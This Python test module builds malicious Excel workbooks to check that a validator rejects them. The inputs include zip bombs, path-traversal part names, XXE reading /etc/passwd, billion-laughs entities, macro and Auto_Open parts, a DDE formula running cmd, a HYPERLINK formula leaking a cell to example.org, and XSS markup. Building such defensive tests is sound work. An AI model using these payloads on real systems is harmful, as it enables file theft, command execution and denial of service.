"""Every hostile file and value that docs/security.md names: how it is made, and what is said of it."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

from trust.cells import RATIONALE, SCORE, SCORES
from trust.cells import cell as at
from trust.editing import (
    RELATED,
    changed,
    on_sheet,
    packed,
    part_of,
    parts_of,
    with_cell,
    with_number,
    with_text,
)
from trust.packs import returned
from trust.tampering import said

if TYPE_CHECKING:
    from collections.abc import Callable

BOOK, TYPES, LINKS = "xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
Case = tuple["Callable[[], bytes]", list[str]]


def plus(name: str, content: bytes) -> bytes:
    """The returned workbook with one more part."""
    return packed({**parts_of(returned()), name: content})


def minus(name: str) -> bytes:
    """The returned workbook without one of its parts."""
    return packed({key: content for key, content in parts_of(returned()).items() if key != name})


def doctype(inside: str, use: str = "") -> bytes:
    """The returned workbook with a document type on its scores."""
    parts = parts_of(returned())
    name = part_of(returned(), SCORES)
    text = parts[name].decode().replace("<worksheet", f"<!DOCTYPE worksheet [{inside}]><worksheet", 1)
    return packed({**parts, name: text.replace("<v>4</v>", f"<v>{use}</v>", 1).encode()})


def twice(name: str) -> bytes:
    """The returned workbook with a part of this name twice."""
    target = io.BytesIO(returned())
    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(name, b"again")
    return target.getvalue()


def claiming(size: int) -> bytes:
    """The returned workbook, whose directory claims another size for the part of the scores."""
    data, name = returned(), part_of(returned(), SCORES).encode()
    head = data.rindex(name) - 46
    return data[: head + 24] + struct.pack("<I", size) + data[head + 28 :]


def nested() -> bytes:
    """A zip in a zip in a zip, each of zeros."""
    inner = bytes(1 << 20)
    for _ in range(3):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"{number}.zip", inner)
        inner = target.getvalue()
    return plus("xl/media/image1.zip", inner)


def linked(kind: str, target: str) -> bytes:
    """The returned workbook with one more pointer out of it."""
    more = f'<Relationship Id="rId77" Type="{RELATED}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return changed(returned(), LINKS, "</Relationships>", more)


def typed(kind: str) -> bytes:
    """The returned workbook with another type of its main part."""
    return changed(returned(), TYPES, MAIN_TYPE, kind)


def file(make: Callable[[], bytes], code: str) -> Case:
    return make, [code]


def entered(change: Callable[[bytes], bytes], *codes: str) -> Case:
    return (lambda: change(returned())), list(codes)


def score(number: str) -> Callable[[bytes], bytes]:
    return lambda book: with_number(book, SCORES, SCORE, number)


def reason(text: str) -> Callable[[bytes], bytes]:
    return lambda book: with_text(book, SCORES, RATIONALE, text)


def formula(text: str) -> Callable[[bytes], bytes]:
    return lambda book: with_cell(book, SCORES, RATIONALE, f"<f>{escape(text)}</f><v>words enough to pass</v>", "str")


OFF, FORMULA = said("score-off-scale", SCORE), said("formula-entered", RATIONALE)
ERROR = said("formula-entered", SCORE)
LONG = "Twenty characters are not enough. "
HOSTILE: dict[str, Case] = {
    "zip bomb": file(lambda: plus("xl/media/image1.png", bytes(60 << 20)), "too-large"),
    "nested zips": file(nested, "unreadable"),
    "bomb in a sheet": file(
        lambda: on_sheet(returned(), SCORES, "</sheetData>", " " * (50 << 20) + "</sheetData>"), "too-large"
    ),
    "a thousand parts too many": file(
        lambda: packed({**parts_of(returned()), **{f"xl/media/{n}.bin": b"x" for n in range(1_000)}}), "too-large"
    ),
    "size that claims too little": file(lambda: claiming(10), "unreadable"),
    "size that claims 4 GB": file(lambda: claiming(4_000_000_000), "too-large"),
    "10 million declared rows": file(
        lambda: on_sheet(returned(), SCORES, "</sheetData>", '<row r="10000000"/></sheetData>'), "unreadable"
    ),
    "a million cells and one": file(
        lambda: on_sheet(returned(), SCORES, "</sheetData>", f'<row r="900">{"<c/>" * 1_000_001}</row></sheetData>'),
        "too-large",
    ),
    "a merge over everything": entered(
        lambda book: on_sheet(book, SCORES, "<mergeCell ", '<mergeCell ref="A1:XFD1048576"/><mergeCell '),
        said("cells-merged", "A1"),
    ),
    "path upwards in a part's name": file(lambda: plus("../../evil.txt", b"x"), "unreadable"),
    "path from the root": file(lambda: plus("/etc/passwd", b"x"), "unreadable"),
    "path with a drive": file(lambda: plus("C:\\evil.txt", b"x"), "unreadable"),
    "duplicate part": file(lambda: twice("xl/styles.xml"), "unreadable"),
    "duplicate part in other case": file(lambda: plus("XL/Styles.xml", b"x"), "unreadable"),
    "missing sheet": file(lambda: minus(part_of(returned(), SCORES)), "unreadable"),
    "missing workbook": file(lambda: minus(BOOK), "unreadable"),
    "missing types": file(lambda: minus(TYPES), "unreadable"),
    "entity expansion": file(lambda: doctype(LAUGHS, "&a9;"), "unreadable"),
    "external entity": file(lambda: doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"), "unreadable"),
    "external DTD": file(
        lambda: on_sheet(
            returned(), SCORES, "<worksheet", '<!DOCTYPE worksheet SYSTEM "http://example.org/x.dtd"><worksheet'
        ),
        "unreadable",
    ),
    "xlsm renamed": file(lambda: typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
    "vbaProject part": file(lambda: plus("xl/vbaProject.bin", OLE), "macros"),
    "vbaProject under another name": file(
        lambda: changed(
            plus("xl/innocent.bin", OLE),
            TYPES,
            "</Types>",
            '<Override PartName="/xl/innocent.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        ),
        "macros",
    ),
    "XLM macro sheet": file(lambda: plus("xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
    "name that runs by itself": file(
        lambda: changed(
            returned(), BOOK, "<definedNames>", '<definedNames><definedName name="Auto_Open">Scores!$A$1</definedName>'
        ),
        "macros",
    ),
    "external link": file(lambda: linked("externalLinkPath", "file:///C:/prices.xlsx"), "external-link"),
    "external link part": file(lambda: plus("xl/externalLinks/externalLink1.xml", b"<x/>"), "external-link"),
    "picture from a server": file(lambda: linked("image", "https://example.org/seen.png"), "external-link"),
    "query": file(lambda: plus("xl/connections.xml", b"<x/>"), "external-link"),
    "DDE formula": entered(formula("cmd|' /C calc'!A0"), FORMULA),
    "HYPERLINK formula": entered(formula('HYPERLINK("https://example.org/?"&D6,"words")'), FORMULA),
    "WEBSERVICE formula": entered(formula('_xlfn.WEBSERVICE("https://example.org/")'), FORMULA),
    "embedded object": file(lambda: plus("xl/embeddings/oleObject1.bin", OLE), "unreadable"),
    "embedded workbook": file(lambda: plus("xl/embeddings/book.xlsx", returned()), "unreadable"),
    "encrypted": file(lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "legacy .xls": file(lambda: OLE + "Workbook".encode("utf-16-le"), "unreadable"),
    "truncated": file(lambda: returned()[:-200], "unreadable"),
    "truncated in the middle": file(lambda: returned()[: len(returned()) // 2], "unreadable"),
    "0 bytes": file(lambda: b"", "unreadable"),
    "HTML": file(lambda: b"<html><table><tr><td>4</td></tr></table></html>", "unreadable"),
    "CSV": file(lambda: b"bid,score\nA,5\n", "unreadable"),
    "OpenDocument": file(lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "unreadable"),
    "NUL character": file(lambda: on_sheet(returned(), SCORES, "<v>4</v>", "<v>\0</v>"), "unreadable"),
    "lone surrogate": file(
        lambda: packed(
            {
                **parts_of(returned()),
                "xl/sharedStrings.xml": parts_of(returned())["xl/sharedStrings.xml"].replace(
                    b">Tender<", b">\xed\xa0\x80<", 1
                ),
            }
        ),
        "unreadable",
    ),
    "a text that stands twice": file(
        lambda: changed(
            returned(), "xl/sharedStrings.xml", '<t xml:space="preserve">Tender</t>', "<t>Tender</t><t>Other</t>"
        ),
        "unreadable",
    ),
    "control characters": entered(reason(f"{LONG}_x0000__x0007_{LONG}"), said("cell-disguised", RATIONALE)),
    "right-to-left override": entered(reason(f"{LONG}\u202e{LONG}"), said("cell-disguised", RATIONALE)),
    "32,768 characters": entered(reason("long " * 6_553 + "bye"), said("rationale-missing", RATIONALE)),
    "a million characters": entered(reason("long " * 200_000), said("rationale-missing", RATIONALE)),
    "text that begins a formula": entered(reason('=HYPERLINK("https://example.org/","words enough")')),
    "markup in a reason": entered(reason("<script>alert('Twenty characters')</script>")),
    "number as text": entered(lambda book: with_text(book, SCORES, SCORE, "4"), OFF),
    "date where a score belongs": entered(
        lambda book: with_cell(book, SCORES, SCORE, "<v>2026-11-30T00:00:00</v>", "d"), OFF
    ),
    "score where a date belongs": entered(
        lambda book: with_text(book, "Declaration", at("signed_date", None, None), "4"),
        said("declaration-missing", at("signed_date", None, None), "Declaration"),
    ),
    "NaN": entered(score("NaN"), ERROR),
    "Infinity": entered(score("Infinity"), ERROR),
    "1e308": entered(score("1e308"), OFF),
    "1e309": entered(score("1e309"), ERROR),
    "a million digits": entered(score("4" * 1_000_000), ERROR),
    "minus zero point": entered(score("-0.0000001"), OFF),
    "boolean": entered(lambda book: with_cell(book, SCORES, SCORE, "<v>1</v>", "b"), OFF),
    "error value": entered(
        lambda book: with_cell(book, SCORES, SCORE, "<v>#N/A</v>", "e"), said("formula-entered", SCORE)
    ),
    "blank that is a space": entered(lambda book: with_text(book, SCORES, SCORE, " "), said("score-missing", SCORE)),
}
"""Each: how it is made, and every finding that it gives; none where it is a text that stays one."""
